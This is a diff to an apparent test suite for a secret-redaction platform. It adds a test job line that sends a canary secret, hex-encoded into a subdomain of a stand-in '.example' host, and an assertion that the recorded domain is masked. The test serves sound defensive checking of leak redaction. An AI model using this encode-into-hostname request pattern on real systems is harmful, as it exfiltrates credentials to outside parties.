@@ -31,7 +31,7 @@ SPELLED = {
     b"MIIE7f3aCANARYb0",
 }
 TELLS = """
-import base64, json, os, sys, time
+import base64, json, os, sys, time, urllib.request
 from urllib.parse import quote
 from sdk import CoreSDK
 
@@ -55,6 +55,10 @@ CoreSDK.Result.upsert_data({"id": value, "n": 1}, "id")
 sys.stdout.write("z" * 70_000 + value + "z" * 70_000 + "\\n")
 sys.stdout.write("z" * (65_536 - 9) + value + "\\n")
 sys.stdout.flush()
+try:
+    urllib.request.urlopen(f"http://{value.encode().hex()}.example/", timeout=20).read()
+except OSError:
+    pass
 CoreSDK.Result.push_data({"done": True})
 while mode == "stay":
     time.sleep(60)
@@ -116,6 +120,9 @@ def test_nothing_that_is_left_of_a_run_holds_them(platform: Booted, worker: str)
     assert (rows[1]["key"], rows[2]) == ("***KEY***", {"id": "***LOGIN***", "n": 1})
     exported = [_exported(platform, run, form) for form in ("csv", "json", "xml")]
     assert all(b"***LOGIN***" in each for each in exported)
+    with FykeClient(platform.url, platform.key, 60) as client:
+        [site] = client.sites(run).list
+    assert site.domain == "***LOGIN***.example"
     assert holding(b"".join(exported) + json.dumps(rows).encode() + log.encode()) == set()
     assert files_with_it(platform.folder) == []
 
